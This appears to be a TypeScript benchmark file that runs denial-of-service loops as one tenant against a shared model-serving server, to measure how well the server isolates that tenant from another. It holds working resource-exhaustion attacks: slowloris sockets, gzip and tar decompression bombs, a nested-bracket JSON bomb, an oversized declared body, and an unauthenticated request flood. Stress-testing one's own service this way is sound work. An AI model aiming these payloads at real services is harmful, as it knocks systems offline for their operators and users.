/**
 * What tenant A does in bench/serve/attack.ts: each attack is a loop that repeats until stopped,
 * counting its attempts and the statuses it got. All inputs are built in memory, small on the wire.
 */
import { setMaxListeners } from 'node:events';
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import tar from 'tar-stream';

export interface AttackTally {
  name: string;
  attempts: number;
  /** Status code (or 'error' for a reset/closed socket) → count. */
  statuses: Record<string, number>;
}

export interface Attack {
  name: string;
  /** Runs until `stop.aborted`; returns its tally. */
  run(url: string, key: string, stop: AbortSignal): Promise<AttackTally>;
}

const MiB = 1024 * 1024;

/** The attacks, in the order `attacks()` returns them (a `--only` selector matches these). */
export const ATTACK_NAMES = [
  'slowloris (20 sockets, 1 byte / 4 s)',
  'gzip CSV bomb (2 MB → 2 GiB field)',
  'tar of 24 gzipped IDX entries',
  'bracket bomb (10 MB of nested [ ])',
  'oversize JSON body (declared 64 MiB)',
  'flood: unauthenticated /v2/models/<random>/ready',
] as const;

/** Indices of the attacks `only` names (comma-separated indices or parts of names); all when empty. */
export function selectAttacks(only?: string): number[] {
  const all = ATTACK_NAMES.map((_, i) => i);
  if (!only) return all;
  const parts = only.split(',').map((p) => p.trim().toLowerCase());
  const picked = all.filter((i) =>
    parts.some((p) => (/^\d+$/.test(p) ? p === String(i) : ATTACK_NAMES[i].toLowerCase().includes(p))),
  );
  if (picked.length === 0) throw new Error(`--only ${only}: no attack matches (${ATTACK_NAMES.join('; ')})`);
  return picked;
}

/** One request with a raw body; resolves with the status, or 'error' when the socket is cut. */
function send(
  url: string,
  method: string,
  path: string,
  headers: Record<string, string | number>,
  body?: Uint8Array | string,
): Promise<string> {
  return new Promise((resolve) => {
    const req = request(`${url}${path}`, { method, headers }, (res) => {
      res.resume();
      res.on('end', () => resolve(String(res.statusCode)));
      res.on('error', () => resolve('error'));
    });
    req.on('error', () => resolve('error'));
    req.end(body);
  });
}

/** Repeats `once` (with `parallel` copies) until stopped, tallying the statuses. */
function loop(name: string, parallel: number, once: (url: string, key: string) => Promise<string>): Attack {
  return {
    name,
    async run(url, key, stop) {
      const tally: AttackTally = { name, attempts: 0, statuses: {} };
      const worker = async () => {
        while (!stop.aborted) {
          const status = await once(url, key);
          tally.attempts++;
          tally.statuses[status] = (tally.statuses[status] ?? 0) + 1;
        }
      };
      await Promise.all(Array.from({ length: parallel }, worker));
      return tally;
    },
  };
}

/** gzip of `prefix` then `inflatedMiB` MiB of 'x' as repeated members (≈ 1 KB per MiB on the wire). */
function gzipBomb(prefix: string, inflatedMiB: number): Buffer {
  const member = gzipSync(Buffer.alloc(64 * MiB, 'x'), { level: 9 });
  return Buffer.concat([gzipSync(prefix), ...Array.from({ length: inflatedMiB / 64 }, () => member)]);
}

/** An IDX file of unsigned bytes (magic 0x0803 for three dims), all zero. */
function idxZeros(dims: number[]): Buffer {
  const head = Buffer.alloc(4 + 4 * dims.length);
  head.writeUInt32BE(0x0800 + dims.length, 0);
  for (const [i, d] of dims.entries()) head.writeUInt32BE(d, 4 + 4 * i);
  return Buffer.concat([head, Buffer.alloc(dims.reduce((a, b) => a * b, 1))]);
}

/** A plain tar of 24 gzipped IDX entries of 4 MiB of zeros each (≈ 100 MB inflated, ≈ 100 KB sent). */
async function idxTarBomb(): Promise<Buffer> {
  const entry = gzipSync(idxZeros([1024, 64, 64]), { level: 9 });
  const pack = tar.pack();
  const parts: Buffer[] = [];
  pack.on('data', (c) => parts.push(c as Buffer));
  const done = new Promise<void>((resolve) => pack.on('end', () => resolve()));
  for (let i = 0; i < 24; i++) pack.entry({ name: `d/train-images-idx3-ubyte-${i}.gz` }, entry);
  pack.finalize();
  await done;
  return Buffer.concat(parts);
}

/** Sockets that send a chunked body one byte every `everyMs`, reopened when the server cuts them. */
function slowloris(name: string, sockets: number, everyMs: number): Attack {
  return {
    name,
    async run(url, key, stop) {
      const tally: AttackTally = { name: this.name, attempts: 0, statuses: {} };
      const { hostname, port } = new URL(url);
      const one = () =>
        new Promise<void>((resolve) => {
          tally.attempts++;
          const s: Socket = connect(Number(port), hostname);
          const tick = setInterval(() => s.write('1\r\nx\r\n'), everyMs);
          const end = (why: string) => {
            clearInterval(tick);
            tally.statuses[why] = (tally.statuses[why] ?? 0) + 1;
            s.destroy();
            resolve();
          };
          s.on('data', (d) => end(d.toString('latin1').split(' ')[1] ?? 'data'));
          s.on('error', () => end('error'));
          s.on('close', () => end('closed'));
          stop.addEventListener('abort', () => end('stopped'), { once: true });
          s.write(
            `POST /api/v1/datasets?name=slow HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${key}\r\n` +
              'Content-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n',
          );
        });
      await Promise.all(
        Array.from({ length: sockets }, async () => {
          while (!stop.aborted) await one();
        }),
      );
      return tally;
    },
  };
}

/** Tenant A's attacks; `model` is A's own model, which the JSON attacks aim at. */
export async function attacks(model: string): Promise<Attack[]> {
  const csvBomb = gzipBomb('text,label\nhello,', 2048);
  const tarBomb = await idxTarBomb();
  const brackets = Buffer.from(`${'['.repeat(5 * MiB)}${']'.repeat(5 * MiB)}`);
  const auth = (key: string) => ({ authorization: `Bearer ${key}` });
  const infer = `/v2/models/${model}/infer`;
  let n = 0;
  return [
    slowloris(ATTACK_NAMES[0], 20, 4000),
    loop(ATTACK_NAMES[1], 1, (url, key) =>
      send(
        url,
        'POST',
        `/api/v1/datasets?name=bomb${n++}`,
        { ...auth(key), 'content-type': 'application/gzip' },
        csvBomb,
      ),
    ),
    loop(ATTACK_NAMES[2], 1, (url, key) =>
      send(
        url,
        'POST',
        `/api/v1/datasets?name=idx${n++}`,
        { ...auth(key), 'content-type': 'application/x-tar' },
        tarBomb,
      ),
    ),
    loop(ATTACK_NAMES[3], 1, (url, key) =>
      send(url, 'POST', infer, { ...auth(key), 'content-type': 'application/json' }, brackets),
    ),
    loop(ATTACK_NAMES[4], 2, (url, key) =>
      send(url, 'POST', infer, {
        ...auth(key),
        'content-type': 'application/json',
        'content-length': 64 * MiB,
      }),
    ),
    loop(ATTACK_NAMES[5], 8, (url) =>
      send(url, 'GET', `/v2/models/m${Math.random().toString(36).slice(2)}/ready`, {}),
    ),
  ];
}

/**
 * As a child process (bench/serve/attack.ts starts it, so the attacker's own work never delays
 * tenant B's client): `node --import tsx bench/serve/attack-loops.ts URL KEY MODEL [INDICES]`
 * attacks until SIGTERM, then prints its tallies as one JSON line. INDICES: see selectAttacks.
 */
async function child(): Promise<void> {
  const [url, key, model, only] = process.argv.slice(2);
  const picked = selectAttacks(only);
  const chosen = (await attacks(model)).filter((_, i) => picked.includes(i));
  const stop = new AbortController();
  setMaxListeners(100, stop.signal); // slowloris listens once per socket
  process.once('SIGTERM', () => stop.abort());
  const running = chosen.map((a) => a.run(url, key, stop.signal));
  process.stdout.write('ready\n');
  process.stdout.write(`${JSON.stringify(await Promise.all(running))}\n`);
}

if (process.argv[1]?.endsWith('attack-loops.ts')) await child();
